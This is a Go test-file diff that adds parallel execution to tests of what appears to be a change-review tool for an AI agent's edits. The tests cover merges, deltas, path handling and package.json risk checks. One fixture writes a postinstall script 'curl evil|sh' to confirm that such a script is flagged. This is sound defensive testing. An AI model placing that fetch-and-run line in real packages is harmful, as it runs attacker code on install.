@@ -14,6 +14,7 @@ import (
 )
 
 func TestParseChangeSetRefuses(t *testing.T) {
+	t.Parallel()
 	sum := strings.Repeat("ab", 32)
 	tests := []struct {
 		name, json, want string
@@ -53,6 +54,7 @@ func TestParseChangeSetRefuses(t *testing.T) {
 }
 
 func TestParseChangeSetAccepts(t *testing.T) {
+	t.Parallel()
 	sum := strings.Repeat("0f", 32)
 	js := `{"version":1,"changes":[
 		{"path":"b","op":"add","type":"file","mode":420,"size":3,"sha256":"` + sum + `"},
@@ -77,6 +79,7 @@ func TestParseChangeSetAccepts(t *testing.T) {
 }
 
 func TestMerge3(t *testing.T) {
+	t.Parallel()
 	tests := []struct {
 		name, base, mine, theirs, want string
 		clean                          bool
@@ -106,6 +109,7 @@ func TestMerge3(t *testing.T) {
 
 // TestMerge3Property: when only one side changes, the merge is that side.
 func TestMerge3Property(t *testing.T) {
+	t.Parallel()
 	r := rand.New(rand.NewPCG(7, 7))
 	for i := 0; i < 200; i++ {
 		base := randomText(r, r.IntN(20))
@@ -120,6 +124,7 @@ func TestMerge3Property(t *testing.T) {
 }
 
 func TestBase85RoundTrip(t *testing.T) {
+	t.Parallel()
 	r := rand.New(rand.NewPCG(1, 2))
 	for _, n := range []int{0, 1, 3, 4, 26, 27, 51, 52, 53, 1000, 70000} {
 		data := make([]byte, n)
@@ -146,6 +151,7 @@ func TestBase85RoundTrip(t *testing.T) {
 }
 
 func TestApplyDelta(t *testing.T) {
+	t.Parallel()
 	src := []byte("hello, world\n")
 	// source size 13, result size 19, copy 0..6 ("hello,"), insert " dear", copy 6..13.
 	delta := []byte{13, 19, 0x80 | 0x01 | 0x10, 0, 6, 6, ' ', 'd', 'e', 'a', 'r', ',', 0x80 | 0x01 | 0x10, 6, 7}
@@ -159,6 +165,7 @@ func TestApplyDelta(t *testing.T) {
 }
 
 func TestGitQuote(t *testing.T) {
+	t.Parallel()
 	for _, p := range []string{"plain", "sp ace", `q"uote`, `back\slash`, "tab\tx", "naïve", "\x01\x7f\xff"} {
 		q := gitQuote("a/", p)
 		if q[0] != '"' {
@@ -175,6 +182,7 @@ func TestGitQuote(t *testing.T) {
 }
 
 func TestDisplayPath(t *testing.T) {
+	t.Parallel()
 	tests := []struct{ in, want string }{
 		{"src/main.go", "src/main.go"},
 		{"naïve café", "naïve café"},
@@ -190,6 +198,7 @@ func TestDisplayPath(t *testing.T) {
 }
 
 func TestClassifyPath(t *testing.T) {
+	t.Parallel()
 	tests := []struct {
 		path string
 		want Attention
@@ -279,6 +288,7 @@ func TestClassifyPath(t *testing.T) {
 }
 
 func TestPackageScriptsFlagged(t *testing.T) {
+	t.Parallel()
 	s := newTestSession(t, tree{"package.json": `file:{"name":"x","scripts":{"test":"jest"},"version":"1.0.0"}` + "\n"})
 	a := s.agentTree(t)
 	writeFile(t, filepath.Join(a, "package.json"), `{"name":"x","scripts":{"test":"jest","postinstall":"curl evil|sh"},"version":"1.0.0"}`+"\n", 0o644)
@@ -311,6 +321,7 @@ func (lyingSource) Open(string) (io.ReadCloser, error) {
 }
 
 func TestBuildPatchVerifiesContent(t *testing.T) {
+	t.Parallel()
 	s := newTestSession(t, tree{"a.txt": "file:a\n"})
 	a := s.agentTree(t)
 	writeFile(t, filepath.Join(a, "a.txt"), "agent\n", 0o644)
@@ -393,6 +404,7 @@ func TestInterruptedApply(t *testing.T) {
 }
 
 func TestClassifyDir(t *testing.T) {
+	t.Parallel()
 	tests := []struct {
 		path string
 		want Attention
@@ -418,6 +430,7 @@ func TestClassifyDir(t *testing.T) {
 // runs: a version bump is not flagged, a new script or a dependency from
 // outside the registry is.
 func TestPackageJSONRisk(t *testing.T) {
+	t.Parallel()
 	base := `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0"}}`
 	tests := []struct {
 		name, new string
